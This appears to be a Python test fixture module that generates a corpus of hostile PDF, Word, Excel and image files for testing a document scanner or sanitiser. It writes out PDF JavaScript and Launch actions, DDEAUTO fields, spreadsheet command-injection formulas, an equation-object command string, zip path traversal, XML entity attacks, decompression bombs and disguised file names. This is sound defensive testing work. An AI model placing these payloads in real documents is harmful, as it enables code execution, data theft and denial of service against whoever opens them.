"""The hostile corpus: files that do more than show, and files that are made to break whoever looks at them."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image
from pypdf import PdfWriter

from tests.documents import making, samples
from tests.documents.making import (
    docx,
    field,
    flate,
    formula,
    nested,
    packed_pdf,
    page_pdf,
    related,
    stream,
    xlsx,
)

Case = tuple[str, str, bytes]
"""What it is, under which name it comes, and its bytes."""
ACTIONS = {
    "script": b"/S/JavaScript/JS(app.alert\\(1\\))",
    "launch": b"/S/Launch/F(cmd.exe)",
    "submit": b"/S/SubmitForm/F(http://example.invalid/)",
    "other file": b"/S/GoToR/F(other.pdf)/D[0/Fit]",
    "embedded file": b"/S/GoToE/T<<>>",
    "import": b"/S/ImportData/F(data.fdf)",
    "rendition": b"/S/Rendition/OP 0",
    "film": b"/S/Movie/T(x)",
    "sound": b"/S/Sound/Sound 3 0 R",
    "rich media": b"/S/RichMediaExecute",
    "three dimensions": b"/S/GoTo3DView",
    "thread elsewhere": b"/S/Thread/F(other.pdf)/D 0",
    "link to a file": b"/S/URI/URI(file:///etc/passwd)",
}
LINKS = (
    "file:///C:/Windows/x", "\\\\\\\\server\\\\share\\\\x", "javascript:alert\\(1\\)", "smb://server/x", "data:text/html,x",
    "vbscript:x", "ms-word:ofe|u|http://example.invalid/x", "C:\\\\x.exe", "../x.exe", "/etc/passwd", " fi\\nle:///x", "FILE:x",
    "ldap://server/x",
)  # fmt: skip
INSTRUCTIONS = {
    "dde": ("DDE ", "excel ", "x"),
    "dde by itself": ('DDEAUTO c:\\\\x.exe "/k x"',),
    "dde cut into runs": ("D", "DE", "AU", 'TO c:\\\\x "y"'),
    "dde in small letters": (' ddeauto "x" "y"',),
    "dde in quotation marks": ('"DDEAUTO" x y',),
    "picture from a share": ('INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\x.png"',),
    "picture from the web": ('INCLUDEPICTURE "http://example.invalid/x.png" \\d',),
    "picture behind a file address": ('INCLUDEPICTURE "file://server/x.png"',),
    "text from elsewhere": ('INCLUDETEXT "c:\\\\x.docx"',),
    "text, old": ('INCLUDE "c:\\\\x.docx"',),
    "import": ('IMPORT "x.png"',),
    "link": ("LINK Excel.Sheet.8 c:\\\\x.xls",),
    "database": ('DATABASE \\c "x"',),
    "index of others": ('RD "c:\\\\x.docx"',),
    "printer": ('PRINT "x"',),
    "hyperlink to a file": ('HYPERLINK "file:///c:/x.exe"',),
    "hyperlink to a share": ('HYPERLINK "\\\\\\\\server\\\\x"',),
    "hyperlink to a script": ('HYPERLINK "javascript:x"',),
}
FORMULAS = (
    "cmd|'/c x'!A0", 'cmd|"/C calc"!A0', "'cmd|/c x'!A0", "=DDE(\"cmd\",\"/c\",\"x\")", 'WEBSERVICE("http://example.invalid/"&amp;A1)',
    '_xlfn.WEBSERVICE("x")', "SUM(1,_xlfn.webservice(A1))", 'RTD("x",,"y")', 'CALL("kernel32","x","y")', 'REGISTER("x","y","z")',
    'REGISTER.ID("x","y")', 'EXEC("x")', 'IMAGE("http://example.invalid/x")', "'\\\\server\\share\\[x.xlsx]S'!A1",
    "'http://example.invalid/[x.xlsx]S'!A1", 'HYPERLINK("file:///c:/x","x")', 'HYPERLINK("\\\\server\\x")', "HYPERLINK(A1,B1)",
    "MSEXCEL|'\\..\\x'!''", "A1+cmd |'/c x'!A1",
)  # fmt: skip
BAD_NAMES = (
    "方案\u202efdp.pdf", "方案\0.pdf", "方案.exe.pdf", "../方案.pdf", "方案.js.pdf", "方案\u200b.pdf", "C:\\方案.pdf", "nul.pdf",
    "方案.pdf.", "方案\ue000.pdf", "方案.svg.pdf", "方案\u2028.pdf",
)  # fmt: skip
ELSEWHERE = (
    "attachedTemplate", "image", "oleObject", "frame", "subDocument", "package", "video", "audio", "mailMergeSource", "externalLinkPath",
    "xslt", "control",
)  # fmt: skip
INSIDE = (
    "aFChunk", "vbaProject", "control", "attachedToolbars", "xlMacrosheet", "connections", "externalLink", "webextension",
)  # fmt: skip
INNER = {
    "program": b"MZ\x90\0", "page description": b"%PDF-1.4", "archive": samples.archive({"a": "b"}), "shortcut": b"L\0\0\0\x01\x14\x02\0",
    "rich text": b"{\\rtf1", "cabinet": b"MSCF\0", "help": b"ITSF", "shell": b"#!/bin/sh", "other archive": b"Rar!\x1a",
    "another archive": b"7z\xbc\xaf\x27\x1c", "Linux program": b"\x7fELF\2", "packed": b"\x1f\x8b\x08",
}  # fmt: skip


def corpus() -> Iterator[Case]:
    """Every hostile file."""
    yield from _actions()
    yield from _links()
    yield from _structures()
    yield from _locked()
    yield from _bombs()
    yield from _words()
    yield from _packages()
    yield from _archives()
    yield from _workbooks()
    yield from _pictures()
    yield from (("name", name, samples.pdf()) for name in BAD_NAMES)


def _actions() -> Iterator[Case]:
    annotation = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%s>>>>"
    for what, action in ACTIONS.items():
        carriers = {
            "at opening": page_pdf(catalog=b"/OpenAction<<%s>>" % action),
            "behind a link": page_pdf(b"/Annots[4 0 R]", annotation % action),
            "at a page's opening": page_pdf(b"/AA<</O<<%s>>>>" % action),
            "as a second action": page_pdf(
                b"/Annots[4 0 R]", annotation % (b"/S/GoTo/D[3 0 R/Fit]/Next<<%s>>" % action)
            ),
            "in an object of its own": page_pdf(b"", b"<<%s>>" % action, catalog=b"/OpenAction 4 0 R"),
            "under an escaped name": page_pdf(
                catalog=b"/OpenAction<<%s>>" % action.replace(b"/S/", b"/#53/").replace(b"/J", b"/#4A")
            ),
            "packed": packed_pdf(_plain(b"/OpenAction 4 0 R"), {4: b"<<%s>>" % action}),
            "packed and in no table": packed_pdf(_plain(), {4: b"<<%s>>" % action}, listed=False),
            "in an update": making.updated(samples.pdf_with_catalog(b""), {4: b"<<%s>>" % action}),
            "replaced by an update": making.updated(
                page_pdf(b"", b"<<%s>>" % action), {4: b"<</S/GoTo/D[3 0 R/Fit]>>"}
            ),
        }
        yield from ((f"{what} {where}", "方案.pdf", content) for where, content in carriers.items())


def _plain(catalog: bytes = b"") -> dict[int, bytes]:
    return {1: samples.CATALOG % catalog, 2: samples.PAGES, 3: samples.PAGE % b""}


def _links() -> Iterator[Case]:
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(%s)>>>>"
    for target in LINKS:
        yield f"link to {target}", "方案.pdf", page_pdf(b"/Annots[4 0 R]", link % target.encode())
    wide = "file:///x".encode("utf-16").hex().encode()
    yield "link in wide letters", "方案.pdf", page_pdf(b"/X<</S/URI/URI<feff%s>>>" % wide[4:])
    yield "link in an object of its own", "方案.pdf", page_pdf(b"/X<</S/URI/URI 4 0 R>>", b"(file:///x)")
    yield "base of links", "方案.pdf", page_pdf(catalog=b"/URI<</Base(file:///)>>")
    web = b"<</S/URI/URI(http://example.invalid/)>>"
    yield "web page at opening", "方案.pdf", page_pdf(catalog=b"/OpenAction" + web)
    yield "web page at a page's opening", "方案.pdf", page_pdf(b"/AA<</O%s>>" % web)
    yield "kind in an object of its own", "方案.pdf", page_pdf(b"/A<</S 4 0 R>>", b"/SubmitForm")
    twice = b"<</S/GoTo/S/SubmitForm/F(http://example.invalid/)>>"
    yield "kind told twice", "方案.pdf", page_pdf(catalog=b"/OpenAction" + twice)


def _structures() -> Iterator[Case]:
    entries = {
        "attachment": b"/Names<</EmbeddedFiles<</Names[]>>>>", "file of a file": b"/AF[<</Type/Filespec/EF<<>>>>]", "portfolio": b"/Collection<<>>",
        "dynamic form": b"/AcroForm<</XFA[]>>", "file elsewhere": b"/X<</Type/Filespec/F(x)>>", "web file": b"/X<</FS/URL/F(http://x/)>>",
        "film": b"/X<</Subtype/Movie>>", "screen": b"/X<</Subtype/Screen>>", "rich": b"/X<</Subtype/RichMedia>>", "solid": b"/X<</Subtype/3D>>",
        "noise": b"/X<</Subtype/Sound>>", "pinned file": b"/X<</Subtype/FileAttachment>>", "deep": b"/X" + b"[" * 300 + b"]" * 300,
    }  # fmt: skip
    yield from ((what, "方案.pdf", page_pdf(catalog=extra)) for what, extra in entries.items())
    streams = {
        "bytes elsewhere": stream(b"", b"/F(http://example.invalid/x)"), "filter elsewhere": stream(b"x", b"/FFilter/FlateDecode"),
        "page elsewhere": stream(b"", b"/Type/XObject/Subtype/Form/Ref<</F(x)>>"), "printing": stream(b"", b"/OPI<</2.0<<>>>>"),
        "printer's program": stream(b"x", b"/Subtype/PS"), "entities": flate(b"<!DOCTYPE a[<!ENTITY b 'c'>]>", b"/Type/Metadata/Subtype/XML"),
        "unknown filter": stream(b"x", b"/Filter/Unknown"), "own lock": stream(b"x", b"/Filter/Crypt"),
        "filter behind a picture's": stream(b"x", b"/Filter[/DCTDecode/FlateDecode]"), "many filters": stream(b"x", b"/Filter[/AHx/AHx/AHx/AHx/AHx]"),
    }  # fmt: skip
    yield from ((what, "方案.pdf", page_pdf(b"/Contents 4 0 R", body)) for what, body in streams.items())
    catalog, page = samples.CATALOG % b"", samples.PAGE % b""
    trees = {
        "circle of two": (b"<</Type/Pages/Kids[4 0 R]/Count 1>>", page, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "page in itself": (b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 1>>", page), "page twice": (b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 2>>", page),
        "count too large": (b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", page), "count too small": (b"<</Type/Pages/Kids[3 0 R 4 0 R]/Count 1>>", page, page),
        "negative count": (b"<</Type/Pages/Kids[3 0 R]/Count -1>>", page), "no page": (b"<</Type/Pages/Kids[]/Count 0>>", page),
    }  # fmt: skip
    yield from ((what, "方案.pdf", samples.raw_pdf(catalog, *rest)) for what, rest in trees.items())
    yield "archive behind", "方案.pdf", samples.pdf() + samples.archive({"a": "b"})
    yield "program behind", "方案.pdf", samples.pdf() + b"MZ" + bytes(50)
    yield "page in front", "方案.pdf", b"<html>" + samples.pdf()
    yield "document under another name", "方案.pdf", samples.docx()
    yield "cut off", "方案.pdf", samples.pdf()[:-40]


def _locked() -> Iterator[Case]:
    for algorithm in ("AES-256", "AES-128", "RC4-128", "RC4-40"):
        made = samples.writer()
        made.encrypt("password", algorithm=algorithm)
        yield f"password {algorithm}", "方案.pdf", samples.written(made)
        inner = samples.pdf_with_catalog(b"/OpenAction<</S/J#61vaScript/JS(x)>>")
        hidden = PdfWriter(clone_from=io.BytesIO(inner))
        hidden.encrypt("", "owner", algorithm=algorithm)
        yield f"script behind {algorithm}", "方案.pdf", samples.written(hidden)
    yield (
        "other lock",
        "方案.pdf",
        samples.pdf().replace(b"trailer\n<<", b"trailer\n<</Encrypt<</Filter/X/V 1>>"),
    )


def _bombs() -> Iterator[Case]:
    zeros = bytes(160 * 1024 * 1024)
    runs = b"\x81\0" * 1_300_000
    hexadecimal = zlib.compress(zeros, 9).hex().encode()
    bodies = {
        "packed": stream(zlib.compress(zeros, 9), b"/Filter/FlateDecode"), "runs": stream(runs, b"/Filter/RunLengthDecode"),
        "runs, packed": stream(zlib.compress(runs, 9), b"/Filter[/FlateDecode/RunLengthDecode]"), "twice": stream(b"x", b"/Filter[/Fl/Fl]"),
        "in letters": stream(hexadecimal, b"/Filter[/ASCIIHexDecode/FlateDecode]"),
        "picture": stream(b"", b"/Subtype/Image/Width 99999/Height 99999/BitsPerComponent 1"),
        "deep picture": stream(b"", b"/Subtype/Image/Width 20000/Height 20000/BitsPerComponent 16"),
        "photograph": stream(_jpeg_header(65535, 65535), b"/Filter/DCTDecode"),
        "packed photograph": flate(b"\xff\x4f\xff\x51" + struct.pack(">HHII", 47, 0, 99999, 99999)).replace(b"/FlateDecode", b"[/FlateDecode/JPXDecode]"),
        "fax": stream(bytes(4) + b"\x30\0\1" + struct.pack(">III", 19, 99999, 99999), b"/Filter/JBIG2Decode"),
    }  # fmt: skip
    yield from (
        (f"bomb: {what}", "方案.pdf", page_pdf(b"/Contents 4 0 R", body)) for what, body in bodies.items()
    )
    index = b"9 0 " + zeros
    yield "bomb: object stream", "方案.pdf", page_pdf(b"", flate(index, b"/Type/ObjStm/N 1/First 4"))


def _jpeg_header(width: int, height: int) -> bytes:
    return b"\xff\xd8\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0\xff\xd9"


def _words() -> Iterator[Case]:
    for what, pieces in INSTRUCTIONS.items():
        escaped = [piece.replace('"', "&quot;") for piece in pieces]
        yield f"field: {what}", "方案.docx", docx(field(*escaped))
        whole = "".join(escaped)
        yield f"simple field: {what}", "方案.docx", docx(f'<w:fldSimple w:instr="{whole}"/>')
        header = f"<w:hdr {making.W}><w:p>{field(*escaped)}</w:p></w:hdr>"
        yield f"header: {what}", "方案.docx", docx(members={"word/header1.xml": header})
    dde = '<w:instrText xml:space="preserve">DDEAUTO x y</w:instrText>'
    yield "field spelled by another", "方案.docx", docx(nested(" ", "QUOTE 68 68 69", " c:\\\\x y"))
    yield "field spelled in part by another", "方案.docx", docx(nested("DD", "QUOTE 69", " c:\\\\x y"))
    yield "field in a field", "方案.docx", docx(nested("IF 1=1 ", "DDEAUTO x y"))
    yield "field that nobody ends", "方案.docx", docx(f'<w:r><w:fldChar w:fldCharType="begin"/>{dde}</w:r>')
    yield "field that nobody begins", "方案.docx", docx(f"<w:r>{dde}</w:r>")
    yield "deleted field", "方案.docx", docx("<w:r><w:delInstrText>DDE x y</w:delInstrText></w:r>")
    part = f"<w:document {making.W}>{field('DDEAUTO x y')}</w:document>"
    yield "field in a part without ending", "方案.docx", docx(members={"word/part.bin": part})
    yield "field in wide letters", "方案.docx", docx(members={"word/part.bin": part.encode("utf-16")})


def _packages() -> Iterator[Case]:
    for kind in ELSEWHERE:
        yield f"{kind} elsewhere", "方案.docx", docx(relations=related(kind, "http://example.invalid/x"))
    for kind in INSIDE:
        yield f"{kind} inside", "方案.docx", docx(relations=related(kind, "part.bin", outside=False))
    for target in ("file:///c:/x.exe", "\\\\server\\x", "javascript:x", "../x.docm", "smb://server/x"):
        yield f"link to {target}", "方案.docx", docx(relations=related("hyperlink", target))
    shy = related("attachedTemplate", "http://example.invalid/x").replace("External", " external ")
    yield "template, shy", "方案.docx", docx(relations=shy)
    yield (
        "template without a mode",
        "方案.docx",
        docx(relations=related("image", "http://x/y", outside=False)),
    )
    for name in (
        "word/vbaProject.bin",
        "word/activeX/activeX1.xml",
        "customUI/customUI.xml",
        "word/vbaData.xml",
    ):
        yield name, "方案.docx", docx(members={name: "<a/>"})
    yield (
        "macro kind",
        "方案.docx",
        docx(types='<Override PartName="/a" ContentType="a.macroEnabled.main+xml"/>'),
    )
    for element in (
        "<w:altChunk/>",
        "<w:mailMerge/>",
        "<a:webVideoPr xmlns:a='a'/>",
        "<ax:ocx xmlns:ax='a'/>",
    ):
        yield element, "方案.docx", docx(element)
    for what, content in INNER.items():
        yield f"inside: {what}", "方案.docx", docx(members={"word/embeddings/a.bin": content})
    yield from _objects()
    yield from _drawings()


def _objects() -> Iterator[Case]:
    equation, where = making.EQUATION, "word/embeddings/oleObject1.bin"
    objects = {
        "package": making.compound({"\x01Ole10Native": b"x" * 20}),
        "package beside an equation": making.compound({**equation, "\x01Ole10Native": b"x" * 20}),
        "equation of another program": making.compound(equation, b"\x0c\0\3\0" + bytes(12)),
        "equation that links": making.compound({**equation, "\x01Ole": b"\1\0\0\2\1" + bytes(15)}),
        "equation with an address": making.compound({**equation, "\x01Ole": b"\1\0\0\2\0" + bytes(200)}),
        "equation that attacks": making.compound({**equation, "Equation Native": b"\3\1\1\3\x0a\x08\0\0" + b"cmd.exe /c start \\\\server\\share\\programme.exe &&" * 2}),
        "old workbook": making.compound({"Workbook": b"x" * 20}), "torn": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600,
        "circle": making.compound(equation).replace(b"\xfd\xff\xff\xff\xfe\xff\xff\xff\xfe\xff\xff\xff", b"\xfd\xff\xff\xff\xfe\xff\xff\xff\2\0\0\0"),
    }  # fmt: skip
    yield from ((f"object: {what}", "方案.docx", docx(members={where: one})) for what, one in objects.items())
    inner = {
        "formula": formula("cmd|'/c x'!A0"), "macro": xlsx(members={"xl/vbaProject.bin": b"x"}), "document": docx(),
        "workbook in a workbook": xlsx(members={"xl/embeddings/a.xlsx": xlsx()}), "torn": xlsx()[:-30],
    }  # fmt: skip
    for what, one in inner.items():
        yield f"workbook inside: {what}", "方案.docx", docx(members={"word/embeddings/a.xlsx": one})


def _drawings() -> Iterator[Case]:
    space = 'xmlns="http://www.w3.org/2000/svg"'
    drawings = {
        "script": f"<svg {space}><script>x</script></svg>", "listener": f"<svg {space} onload='x'/>", "page": f"<svg {space}><foreignObject/></svg>",
        "picture elsewhere": f"<svg {space}><image href='http://example.invalid/x'/></svg>", "entity": f"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg {space}>&a;</svg>",
    }  # fmt: skip
    for what, one in drawings.items():
        yield f"drawing: {what}", "方案.docx", docx(members={"word/media/image1.svg": one})
    escape = bytes(18) + struct.pack("<IHHH", 5, 0x0626, 9, 0) + bytes(2)
    yield (
        "metafile that runs",
        "方案.docx",
        docx(members={"word/media/a.wmf": b"\x01\0\x09\0\0" + escape[5:]}),
    )
    enhanced = (
        struct.pack("<II", 1, 88).ljust(40, b"\0")
        + b" EMF"
        + bytes(44)
        + struct.pack("<II", 110, 16)
        + bytes(8)
    )
    yield "metafile that calls a driver", "方案.docx", docx(members={"word/media/a.emf": enhanced})
    yield "flood of pixels", "方案.docx", docx(members={"word/media/a.png": samples.png(20_000, 20_000)})


def _archives() -> Iterator[Case]:
    base: list[tuple[zipfile.ZipInfo | str, str | bytes]] = [
        ("[Content_Types].xml", making.TYPES.format("")), ("word/document.xml", samples.WORDS),
    ]  # fmt: skip
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    device = zipfile.ZipInfo("word/device")
    device.external_attr = 0o020666 << 16
    odd: dict[str, list[tuple[zipfile.ZipInfo | str, str | bytes]]] = {
        "link": [(link, "/etc/passwd")], "device": [(device, "x")], "climbing": [("../x.xml", "<a/>")], "absolute": [("/etc/x", "x")],
        "other separator": [("word\\..\\x", "x")], "drive": [("C:/x", "x")], "roundabout": [("word/./x", "x")], "other letters": [("WORD/document.xml", "<a/>")],
        "bomb": [("word/a.bin", bytes(210 * 1024 * 1024))], "entity": [("word/a.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")],
        "laughter": [("word/a.xml", "<!DOCTYPE a [<!ENTITY b 'c'><!ENTITY d '&b;&b;'>]><a>&d;</a>")], "many": [(f"word/{n}.bin", "") for n in range(4_100)],
        "outer entity": [("word/a.xml", "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>")], "deep": [("word/a.xml", "<a>" * 300 + "</a>" * 300)],
    }  # fmt: skip
    for what, more in odd.items():
        yield f"archive: {what}", "方案.docx", making.zipped([*base, *more])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield "archive: twice", "方案.docx", making.zipped([*base, ("word/document.xml", "<a/>")])
    yield "archive: other packing", "方案.docx", making.repacked(docx(), zipfile.ZIP_LZMA)
    whole = docx()
    yield "archive: locked", "方案.docx", _locked_archive(whole)
    yield "archive: in front", "方案.docx", b"MZ" + whole
    yield "archive: behind", "方案.docx", whole + b"MZ"
    start = whole.index(b"PK\x01\x02")
    gap = bytearray(whole[:start] + b"hidden bytes between" * 9 + whole[start:])
    struct.pack_into("<I", gap, len(gap) - 6, start + 180)
    yield "archive: between", "方案.docx", bytes(gap)
    yield "archive: no document", "方案.docx", samples.archive({"a.txt": "b"})
    yield "workbook as document", "方案.docx", xlsx()
    yield "program as document", "方案.docx", b"MZ" + bytes(200)


def _locked_archive(whole: bytes) -> bytes:
    out = bytearray(whole)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            out[at + place] |= 1
            at = out.find(mark, at + 4)
    return bytes(out)


def _workbooks() -> Iterator[Case]:
    for text in FORMULAS:
        yield f"formula {text}", "清单.xlsx", formula(text.replace("&amp;", "&"))
    bad = "cmd|'/c x'!A0"
    yield "formula cut by markup", "清单.xlsx", xlsx("<row><c><f>cmd<!-- -->|'/c x'!A0</f></c></row>")
    yield (
        "name",
        "清单.xlsx",
        xlsx(names=f'<definedNames><definedName name="a">{bad}</definedName></definedNames>'),
    )
    yield "rule", "清单.xlsx", xlsx(f"<row><formula1>{bad}</formula1></row>")
    yield "condition", "清单.xlsx", xlsx(f"<row><formula>{bad}</formula></row>")
    yield "connections", "清单.xlsx", xlsx(members={"xl/connections.xml": "<connections/>"})
    yield (
        "link to a program",
        "清单.xlsx",
        xlsx(members={"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
    )
    yield "query", "清单.xlsx", xlsx(members={"customXml/item1.xml": "<DataMashup>x</DataMashup>"})
    yield "macro sheet", "清单.xlsx", xlsx(members={"xl/macrosheets/sheet1.xml": "<a/>"})


def _pictures() -> Iterator[Case]:
    png, jpeg = making.picture("PNG"), making.picture("JPEG")
    text = making.chunk(b"tEXt", b"Comment\0<script>x</script>")
    control = making.chunk(b"acTL", struct.pack(">II", 2, 0))
    yield "flood", "照片.png", samples.png(20_000, 20_000)
    yield "flood, photograph", "照片.jpg", _flood()
    yield "page among the words", "照片.png", making.with_chunks(png, text)
    yield "moving", "照片.png", making.with_chunks(png, control)
    yield "torn chunk", "照片.png", png[:60] + b"\x55" + png[61:]
    yield "behind the end", "照片.png", png + b"x"
    yield "cut off", "照片.png", png[:-20] + png[-12:]
    yield "page in a photograph", "照片.jpg", making.with_segment(jpeg, 0xFE, b"<html><script>x</script>")
    yield "description in a photograph", "照片.jpg", making.with_segment(jpeg, 0xFE, b"%PDF-1.4 x")
    yield "archive behind a photograph", "照片.jpg", jpeg + samples.archive({"a": "b"})
    yield "program behind a photograph", "照片.jpg", jpeg + b"MZ\x90" + bytes(90) + b"\xff\xd9"
    yield "page behind a photograph", "照片.jpg", jpeg + b"<html></html>\xff\xd9"
    yield "photograph under another name", "照片.png", jpeg
    yield "picture under another name", "照片.jpg", png
    for form, content in (
        ("GIF", making.picture("GIF")),
        ("BMP", making.picture("BMP")),
        ("WEBP", making.picture("WEBP")),
    ):
        yield f"{form} under another name", "照片.png", content
    yield "drawing", "照片.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"
    yield "cut off photograph", "照片.jpg", making.picture("JPEG", size=(400, 400))[:300] + b"\xff\xd9"


def _flood() -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (8_000, 8_000)).save(buffer, "JPEG", quality=1)
    return buffer.getvalue()
